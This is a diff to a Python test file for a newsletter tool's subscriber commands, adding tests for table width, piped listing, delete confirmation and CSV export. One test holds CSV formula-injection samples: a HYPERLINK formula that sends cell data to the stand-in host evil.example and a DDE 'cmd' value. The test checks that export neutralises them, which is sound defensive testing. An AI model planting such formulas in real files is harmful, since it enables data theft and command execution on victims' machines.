@@ -6,17 +6,20 @@ import codecs
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from newsletter.project import open_project
 from newsletter.subscribers.exporter import export_csv
 from newsletter.subscribers.importer import import_csv
 
 from support.subscribers import by_email, fresh_store, one_error_line, table, write_csv
 
 EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+ANSI = re.compile(r"\x1b\[[0-9;]*m")
 
 
 def test_add_then_add_again_updates(project, cli):
@@ -45,7 +48,8 @@ def test_add_refuses_someone_who_left_unless_resubscribe(project, cli):
     assert by_email(project)["ann@example.org"]["status"] == "active"
 
 
-def test_list_shows_a_table_without_tokens(project, cli):
+def test_list_shows_a_table_without_tokens(project, cli, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "160")  # names on one line each
     cli("subscribers", "import", str(EXAMPLES / "members.csv"))
     result = cli("subscribers", "list")
     assert result.exit_code == 0, result.output
@@ -53,6 +57,42 @@ def test_list_shows_a_table_without_tokens(project, cli):
     assert "12 subscribers" in result.stdout
     for row in table(project, "subscribers"):
         assert row["token"] not in result.stdout
+
+
+def test_list_never_wraps_an_address_on_an_80_column_terminal(project, cli, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "80")
+    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich: write as to a terminal
+
+    def listed() -> list[str]:
+        return ANSI.sub("", cli("subscribers", "list").stdout).splitlines()
+
+    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
+    fits = listed()
+    assert max(len(line.rstrip()) for line in fits) <= 80  # the example list fits as it is
+    long = "angharad.llewellyn-prichard@cyngor-gwirfoddol-ceredigion.example.org"
+    cli("subscribers", "add", long, "--name", "Angharad Llewellyn-Prichard",
+        "--organisation", "Cyngor Gwirfoddol Sirol Ceredigion")  # fmt: skip
+    for lines in (fits, listed()):
+        for row in table(project, "subscribers"):
+            if row["email"] != long or lines is not fits:
+                assert any(row["email"] in line for line in lines), row["email"]
+
+
+def test_list_into_a_pipe_streams_plain_columns_page_by_page(project, cli, tmp_path):
+    people = tmp_path / "people.csv"
+    people.write_text(
+        "email,name\n" + "".join(f"p{i:04d}@example.org,P {i}\n" for i in range(1203))
+    )
+    cli("subscribers", "import", str(people))
+    result = cli("subscribers", "list")
+    assert result.exit_code == 0, result.output
+    lines = result.stdout.splitlines()
+    assert lines[0].split() == ["email", "name", "organisation", "lang", "status", "subscribed"]
+    rows = [line.split() for line in lines if "@example.org" in line]
+    assert [row[0] for row in rows] == [f"p{i:04d}@example.org" for i in range(1203)]
+    assert rows[1202][1:4] == ["P", "1202", "active"]
+    assert sum("organisation" in line for line in lines) == 1  # one header, for all the pages
+    assert lines[-1] == "1203 subscribers"
 
 
 def test_list_json_is_an_array_for_scripts_without_tokens(project, cli):
@@ -103,7 +143,19 @@ def test_remove_unknown_address_is_one_line(project, cli):
 def test_forget_asks_first_and_keeps_everything_on_no(project, cli):
     cli("subscribers", "add", "ann@example.org", "--name", "Ann")
     result = cli("subscribers", "forget", "ann@example.org", input="n\n")
+    assert result.exit_code == 0
+    assert "ann@example.org was not forgotten; nothing changed" in result.stdout
+    assert "ann@example.org" in by_email(project)
+
+
+def test_forget_with_no_terminal_to_ask_is_an_error_line_not_aborted(project, cli):
+    cli("subscribers", "add", "ann@example.org", "--name", "Ann")
+    result = cli("subscribers", "forget", "ann@example.org")  # stdin is empty: end of input
     assert result.exit_code == 1
+    assert "Aborted" not in result.output
+    assert one_error_line(result) == (
+        "error: ann@example.org was not forgotten: the question was not answered"
+    )
     assert "ann@example.org" in by_email(project)
 
 
@@ -158,6 +210,39 @@ def test_export_to_a_file_has_a_bom_and_round_trips(project, tmp_path, cli):
     assert "│ unchanged    │   12 │" in again.stdout
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "organisation": "+cmd|' /C calc'!A0",
+    "language": "-2+3",
+    "note": "@SUM(1+1)",
+    "quoted": "'=already quoted",
+}
+
+
+def test_export_neutralises_formulas_and_import_restores_them_exactly(project, tmp_path, cli):
+    with open_project(project) as (_config, store):
+        store.add_subscriber(
+            "-dash@example.org",
+            name=FORMULAS["name"],
+            organisation=FORMULAS["organisation"],
+            language=FORMULAS["language"],
+        )
+        store.db.execute(
+            "UPDATE subscribers SET attributes = ?",
+            [json.dumps({"note": FORMULAS["note"], "quoted": FORMULAS["quoted"]})],
+        )  # fmt: skip
+    target = tmp_path / "out.csv"
+    assert cli("subscribers", "export", str(target)).exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+    assert rows[0]["email"] == "'-dash@example.org"
+    for column, value in FORMULAS.items():
+        assert rows[0][column] == "'" + value  # a spreadsheet shows it as text, never runs it
+    other = tmp_path / "other"
+    assert cli("init", str(other)).exit_code == 0
+    assert cli("subscribers", "import", str(target), project_dir=other).exit_code == 0
+    assert comparable(other) == comparable(project)
+
+
 def test_export_into_a_missing_folder_is_one_line(project, tmp_path, cli):
     cli("subscribers", "add", "ann@example.org")
     line = one_error_line(cli("subscribers", "export", str(tmp_path / "no" / "such.csv")))
@@ -174,7 +259,11 @@ def comparable(project: Path) -> list[tuple]:
     )
 
 
-text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=15)
+plain_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=15)
+# Often led by what a spreadsheet reads as a formula, or by apostrophes before it.
+text = st.tuples(st.sampled_from(["", "", "=", "+", "-", "@", "'", "'=", "''@"]), plain_text).map(
+    "".join
+)
 attribute_names = st.text(alphabet=st.sampled_from("abcXYZ019 _-()âŷŵ."), min_size=1, max_size=10)
 
 
